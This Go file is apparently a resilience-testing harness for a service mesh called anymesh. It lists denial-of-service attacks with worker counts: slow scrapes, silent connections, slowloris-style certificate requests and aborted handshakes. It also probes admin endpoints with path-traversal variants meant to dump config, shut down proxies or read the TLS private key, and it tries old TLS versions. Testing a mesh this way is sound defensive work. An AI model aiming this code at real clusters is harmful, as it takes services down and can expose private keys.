package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"time"

	"anymesh.dev/anymesh/internal/identity"
)

// attacks are those that stopped applications, sidecars or control planes of meshes. The numbers of workers are those
// that sufficed.
var attacks = []attack{
	// A connection that is not redirected has the proxy's own address as its destination: a proxy that accepts it
	// connects to itself without end.
	{kind: "proxy-port", workers: 8, sidecar: []int{15000, 15001}, prepare: plain(greet)},
	// Slow readers of a large answer take all slots of a server, which probes need.
	{kind: "slow-scrape", workers: 70, control: []int{metricsPort}, sidecar: []int{15020}, prepare: plain(scrape)},
	// Silent connections use up the descriptors.
	{kind: "silent", workers: 10000, control: []int{discoveryPort}, family: netip.Addr.Is4, prepare: plain(hold)},
	// Messages that are announced as large as permitted, and never end, use up the memory.
	{kind: unfinishedMessage, workers: connectionsPerCertificate * minCertificates, control: []int{discoveryPort},
		family: netip.Addr.Is6, prepare: prepareUnfinished},
	// Small reviews use up the requests that the control plane may make.
	{kind: "review", workers: 2400, control: []int{webhookPort}, prepare: prepareReview},
	// Large reviews use up the memory: those that are refused unread, and the largest and most expensive that are not.
	{kind: "large-review", workers: 60, control: []int{webhookPort}, prepare: prepareLargeReview},
	{kind: "largest-review", workers: 4, control: []int{webhookPort}, prepare: prepareLargestReview},
	{kind: "many-values", workers: 4, control: []int{webhookPort}, prepare: prepareManyValues},
	// Reviews and handshakes that are cut off fill the log.
	{kind: "aborted-review", workers: 16, control: []int{webhookPort}, prepare: plain(abortReview)},
	{kind: "aborted-handshake", workers: 4, control: []int{webhookPort, signingPort, discoveryPort}, prepare: plain(abortHandshake)},
	// Requests for certificates that arrive slowly take the slots of others.
	{kind: "slow-request", workers: 200, control: []int{signingPort}, prepare: plain(slowRequest)},
	// Requests for certificates with a foreign token cost a request to the API server each.
	{kind: "certificate", workers: 100, control: []int{signingPort}, prepare: plain(requestCertificate)},
	// Paths of administration interfaces, plain and by traversal.
	{kind: "admin-path", workers: 1, control: []int{metricsPort}, sidecar: []int{9901, 15020}, prepare: plain(adminPaths)},
	// Versions of TLS with known attacks.
	{kind: "old-tls", workers: 1, control: []int{webhookPort, signingPort, discoveryPort}, prepare: plain(oldTLS)},
}

// Ports of the control plane.
const (
	discoveryPort = 15128
	signingPort   = 15010
	webhookPort   = 9443
	metricsPort   = 9090
)

// plain returns an attack that needs no preparation.
func plain(try attempt) func(options) (attempt, error) {
	return func(options) (attempt, error) { return try, nil }
}

// dial connects. The caller must call the function that it returns, also if there is no connection.
func dial(ctx context.Context, target string, t *tally) (net.Conn, func()) {
	conn, err := (&net.Dialer{Timeout: 2 * time.Second}).DialContext(ctx, "tcp", target)
	if err != nil {
		return nil, func() {}
	}
	t.connected.Add(1)
	release := context.AfterFunc(ctx, func() { _ = conn.Close() }) // ends the attempt
	return conn, func() {
		release()
		_ = conn.Close() // nothing is lost
	}
}

func greet(ctx context.Context, target string, t *tally) {
	conn, done := dial(ctx, target, t)
	defer done()
	if conn == nil {
		return
	}
	_, _ = conn.Write([]byte("hello\r\n")) // the proxy may have closed it
	_ = conn.SetReadDeadline(time.Now().Add(time.Second))
	_, _ = io.Copy(io.Discard, conn) // until the proxy or the deadline ends it
}

func scrape(ctx context.Context, target string, t *tally) {
	conn, done := dial(ctx, target, t)
	defer done()
	if conn == nil {
		return
	}
	_ = conn.(*net.TCPConn).SetReadBuffer(4096) // the rest stays with the server
	if _, err := fmt.Fprintf(conn, "GET /metrics HTTP/1.1\r\nHost: %s\r\n\r\n", target); err != nil {
		return
	}
	for b := make([]byte, 1); ctx.Err() == nil; {
		if _, err := conn.Read(b); err != nil {
			return
		}
		pause(ctx, 100*time.Millisecond)
	}
}

// hold keeps a connection, without sending anything.
func hold(ctx context.Context, target string, t *tally) {
	conn, done := dial(ctx, target, t)
	defer done()
	if conn != nil {
		_, _ = io.Copy(io.Discard, conn) // until the other side closes it
	}
}

// slowRequest sends one byte of a request for a certificate in each second.
func slowRequest(ctx context.Context, target string, t *tally) {
	conn, done := dial(ctx, target, t)
	defer done()
	if conn == nil {
		return
	}
	secure := tls.Client(conn, unverified)
	_ = conn.SetDeadline(time.Now().Add(time.Minute))
	if _, err := fmt.Fprintf(secure, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: 1000\r\n\r\n", identity.SigningPath, target); err != nil {
		return
	}
	for ctx.Err() == nil {
		if _, err := secure.Write([]byte("x")); err != nil {
			return
		}
		pause(ctx, time.Second)
	}
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// adminPaths requests what only the pod itself may see or change. answered counts successful ones.
func adminPaths(ctx context.Context, target string, t *tally) {
	for _, path := range []string{
		"/config_dump", "/quitquitquit", "/logging?level=trace", "/certs", "/stats/../config_dump", "/stats/%2e%2e/config_dump",
		"//config_dump", "/ready/../quitquitquit", "/debug/model", "/debug/pprof/heap", "/metrics/../debug/views",
		"/debug/clients", "/run/anymesh/tls.key", "/../../run/anymesh/tls.key",
	} {
		for _, method := range []string{http.MethodGet, http.MethodPost} {
			conn, done := dial(ctx, target, t)
			if conn != nil && allowed(conn, method, path) {
				t.answered.Add(1)
			}
			done()
		}
	}
	pause(ctx, time.Second)
}

// allowed reports whether a request succeeds. It does not use the client of net/http, which cleans the path.
func allowed(conn net.Conn, method, path string) bool {
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := fmt.Fprintf(conn, "%s %s HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", method, path); err != nil {
		return false
	}
	response, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		return false
	}
	_ = response.Body.Close() // only the status matters
	return response.StatusCode < 300
}

// oldTLS makes handshakes with TLS 1.1. answered counts successful ones.
func oldTLS(ctx context.Context, target string, t *tally) {
	conn, done := dial(ctx, target, t)
	defer done()
	if conn == nil {
		return
	}
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	//nolint:gosec // as above
	secure := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS10, MaxVersion: tls.VersionTLS11})
	if secure.HandshakeContext(ctx) == nil {
		t.answered.Add(1)
	}
	pause(ctx, time.Second)
}
